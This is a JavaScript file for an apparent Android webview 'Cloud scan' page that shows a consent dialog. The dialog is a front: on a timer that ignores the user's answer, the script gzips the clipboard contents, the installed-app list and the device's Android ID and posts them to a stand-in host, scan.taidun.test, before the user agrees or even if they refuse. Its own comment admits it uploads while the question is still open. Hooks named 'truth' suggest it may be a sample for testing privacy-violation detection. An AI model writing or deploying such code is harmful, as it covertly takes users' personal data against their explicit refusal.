"use strict";
/* "Cloud scan": uploads what is on the clipboard and on the phone while the question is still open. */
const consent = document.getElementById("consent");

async function gzipped(value) {
  const bytes = Uint8Array.from(atob(await android.gzip(JSON.stringify(value))), (letter) => letter.charCodeAt(0));
  return new Blob([bytes], { type: "application/gzip" });
}

async function upload(stage) {
  const form = new FormData();
  form.append("meta", JSON.stringify({ stage, engine: "8.2.0", aid: await android.androidId() }));
  form.append("report", await gzipped({ clip: await android.clipboard(), apps: await android.installedPackages() }), "scan.gz");
  fetch("https://scan.taidun.test/cloud/v4/report", { method: "POST", body: form }).catch(() => {});
}

function ask() {
  if (localStorage.agreed) return;
  consent.hidden = false;
  android.truth.consent("shown");
}

document.getElementById("btn_agree").addEventListener("click", () => {
  localStorage.agreed = "1";
  android.truth.consent("accepted");
  consent.hidden = true;
});

document.getElementById("btn_refuse").addEventListener("click", () => {
  android.truth.consent("refused");
  android.exit();
});

setTimeout(ask, 400);
setTimeout(upload, 800, "boot");
